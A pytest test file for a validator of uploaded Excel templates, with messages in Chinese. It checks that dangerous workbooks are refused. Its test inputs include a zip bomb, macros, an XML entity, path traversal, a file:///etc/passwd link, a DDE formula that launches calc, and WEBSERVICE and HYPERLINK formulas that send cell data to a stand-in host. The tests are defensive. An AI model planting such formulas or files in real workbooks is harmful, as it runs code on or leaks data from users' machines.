"""Uploaded files: what could do harm is refused, what must be mended is named by sheet and cell."""

import io
import time
import zipfile

import pytest

from huiyin.kernel.refusals import Refused
from huiyin.workbooks import packing, sheets
from huiyin.workbooks.checking import checked
from huiyin.workbooks.tests.drawn import cells, changed, template

pytestmark = pytest.mark.django_db
GOOD = cells(A1="{{收到}}")
TYPES, RELS = "[Content_Types].xml", "xl/_rels/workbook.xml.rels"
SHEET = "xl/worksheets/sheet1.xml"


def rels(kind: str, target: str):
    one = f'<Relationship Id="x9" Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return lambda text: text.replace("</Relationships>", one)


def leads(kind: str, target: str):
    one = f'<Relationship Id="x9" Type="http://x/{kind}" Target="{target}"/></Relationships>'
    return lambda text: text.replace("</Relationships>", one)


def typed(kind: str):
    one = f'<Override PartName="/xl/a.xml" ContentType="{kind}"/></Types>'
    return lambda text: text.replace("</Types>", one)


def bomb() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for at in range(21):
            archive.writestr(f"xl/{at}.xml", b"0" * 2**20)
    return made.getvalue()


HARM = {
    "no workbook": (b"just a text", "打不开"),
    "half a file": (GOOD[:-40], "打不开"),
    "an old one, or a password": (b"\xd0\xcf\x11\xe0" + b"0" * 99, "去掉密码"),
    "a bomb": (bomb(), "展开以后太大"),
    "a macro": (changed(GOOD, {}, **{"xl/vbaProject.bin": b"x"}), "宏"),
    "a macro by its type": (
        changed(GOOD, {TYPES: lambda t: t.replace("sheet.main", "sheet.macroEnabled.main")}),
        "宏",
    ),
    "another workbook": (changed(GOOD, {}, **{"xl/externalLinks/externalLink1.xml": b"<a/>"}), "别的工作簿"),
    "a picture from elsewhere": (changed(GOOD, {RELS: rels("image", "http://x/a.png")}), "别的工作簿"),
    "a link to a file": (changed(GOOD, {RELS: rels("hyperlink", "file:///etc/passwd")}), "别的工作簿"),
    "a query": (changed(GOOD, {}, **{"xl/connections.xml": b"<a/>"}), "外部数据"),
    "something embedded": (changed(GOOD, {}, **{"xl/embeddings/oleObject1.bin": b"x"}), "嵌入"),
    "an entity": (
        changed(GOOD, {RELS: lambda t: t.replace("?>", '?><!DOCTYPE a [<!ENTITY b "c">]>', 1)}),
        "打不开",
    ),
    "another workbook under another name": (
        changed(GOOD, {RELS: leads("externalLink", "a.xml")}, **{"xl/a.xml": b"<a/>"}),
        "别的工作簿",
    ),
    "a query by its type": (
        changed(GOOD, {TYPES: typed("application/vnd.x.connections+xml")}, **{"xl/a.xml": b"<a/>"}),
        "外部数据",
    ),
    "a part of an unknown kind": (
        changed(GOOD, {TYPES: typed("application/x-odd+xml")}, **{"xl/a.xml": b"<a/>"}),
        "不认识的部件：x-odd",
    ),
    "another workbook behind the one that is looked over": (
        changed(GOOD, {"_rels/.rels": lambda t: t.replace("xl/workbook.xml", "xl/other.xml")}),
        "打不开",
    ),
    "a path upwards": (changed(GOOD, {}, **{"xl/../../a.xml": b"<a/>"}), "打不开"),
}


@pytest.mark.parametrize("name", HARM)
def test_what_could_do_harm_is_refused_in_words(name):
    content, words = HARM[name]
    with pytest.raises(Refused, match=words):
        checked(content)


def test_more_than_five_megabytes_are_not_even_opened(monkeypatch):
    monkeypatch.setattr(packing, "MOST_BYTES", 100)
    with pytest.raises(Refused, match="最多"):
        checked(GOOD)


PROBLEMS = {
    "{{收道}}": "没有“收道”这个数。相近的有：收到",
    "{{收到": "括号不成对",
    "{{}}": "没有名称",
    "{{收到 城管局}}": "名称=内容",
    "{{收到 单位=没有这个局}}": "没有叫“没有这个局”的",
    "{{收到 期间=昨天}}": "没有“昨天”这个期间",
    "{{收到 颜色=红}}": "不能按“颜色”选",
    "{{收到.颜色}}": "没有“颜色”",
    "{{收到 超期=是}}": "写在“每件诉求”后面",
    "{{每个人}}{{名称}}": "没有“每人”",
    "{{每个单位}}{{满意率}}": "请用考核表",
    "{{满意率 单位=城管局}}": "请用考核表",
    "{{每月 单位=城管局}}{{满意率}}": "请用考核表",
    "{{每件诉求}}{{电话}}": "清单里没有“电话”",
    "{{每个单位 行=99}}": "1 到 20",
    "没有占位": "没有一处要填",
    "=WEBSERVICE(A9)": "WEBSERVICE",
    "=cmd|'/c calc'!A0": "启动别的程序",
    "=[1]表!A1": "别的工作簿",
    "='C:\\[a.xlsx]表'!A1": "别的工作簿",
    '=HYPERLINK("http://x/?"&A1,"看")': "HYPERLINK",
    """='a"b'!A1&WEBSERVICE("http://x/?"&A1)&'a"b'!A1""": "WEBSERVICE",
    '=T[a"b]&WEBSERVICE("http://x/?"&A1)&T[a"b]': "WEBSERVICE",
    """='a"b'!A1&cmd|"/c calc"!A0&'a"b'!A1""": "启动别的程序",
    "='C:\\[a.xlsx]it''s'!A1": "别的工作簿",
    '="{{收到}}"': "公式里不能写占位",
}


@pytest.mark.parametrize("text", PROBLEMS)
def test_what_must_be_mended_is_named_by_sheet_and_cell(cast, text):
    [first, *_rest] = checked(cells(B3=text)).problems
    assert PROBLEMS[text] in str(first), str(first)
    assert "总表" in str(first) and ("B3" in str(first) or text == "没有占位")


def test_every_problem_is_told_at_once_and_a_good_one_has_none(cast):
    found = checked(cells(A1="{{收道}}", A2="{{办杰}}", A3="{{收到}}")).problems
    assert [each.cell for each in found] == ["A1", "A2"]
    assert (
        checked(cells(A1="{{收到 单位=城管局 期间=去年同期}}", A2='=HYPERLINK("#总表!A1","看")')).problems
        == []
    )


def test_a_sum_over_a_block_of_several_rows_must_name_all_of_them(cast):
    found = checked(cells(A1="{{每个单位 行=2}}{{名称}}", B2="{{收到}}", B4="=SUM(B2)")).problems
    assert "每组只用一行" in str(found[0])


def test_charts_are_told_and_text_boxes_take_nothing(cast):
    def draw(book, sheet):
        sheet.write("A1", "{{收到}}")
        chart = book.add_chart({"type": "line"})
        chart.add_series({"values": "=总表!$A$1:$A$1"})
        sheet.insert_chart("C1", chart)

    assert "图表" in checked(template(draw)).notes[0]

    def box(book, sheet):
        sheet.write("A1", "{{收到}}")
        sheet.insert_textbox("C1", "{{办结}}")

    assert "文本框" in str(checked(template(box)).problems[0])


def test_the_columns_of_tables_are_looked_over_too(cast):
    def draw(book, sheet):
        sheet.write("A1", "{{收到}}")
        columns = [{"header": "a"}, {"header": "b", "formula": "=WEBSERVICE([@a])"}]
        sheet.add_table("A3:B5", {"columns": columns})

    [cell, *_rest] = [each for each in checked(template(draw)).problems if each.sheet == "Table1"]
    assert "WEBSERVICE" in str(cell)


def test_names_in_quotes_and_tables_are_no_other_workbook(cast):
    good = """='a b'!A1&"[1]a!"&"x|y"+SUM(T[x])"""
    assert checked(cells(A1="{{收到}}", A2=good)).problems == []


def test_a_formula_is_read_in_no_time_whatever_stands_in_it(cast):
    hard = [
        " " * 4000 + "[" + "a" * 4000,
        "a" * 4000 + ",B1" * 1300,
        ":" * 8000,
        "'" * 8001,
        "['" * 4000,
        "a" * 8000,
    ]
    begun = time.process_time()
    for text in hard:
        checked(cells(A1="{{收到}}", A2=f"={text}"))
    assert time.process_time() - begun < 2
    [found] = checked(cells(A1="{{收到}}", A2="=" + "1+" * 4100 + "1")).problems
    assert "最多 8,192 个字" in str(found)


def test_a_formula_that_was_filled_down_does_not_grow_beyond_bounds(monkeypatch):
    monkeypatch.setattr(sheets, "MOST_UNPACKED", 100)
    rows = "".join(f'<row r="{at}"><c r="A{at}"><f t="shared" si="0"/></c></row>' for at in range(3, 9))
    first = '<row r="2"><c r="A2"><f t="shared" si="0" ref="A2:A8">SUM(B1,B1,B1,B1,B1,B1)</f></c></row>'
    content = changed(GOOD, {SHEET: lambda text: text.replace("</sheetData>", f"{first}{rows}</sheetData>")})
    with pytest.raises(Refused, match="展开以后太大"):
        checked(content)
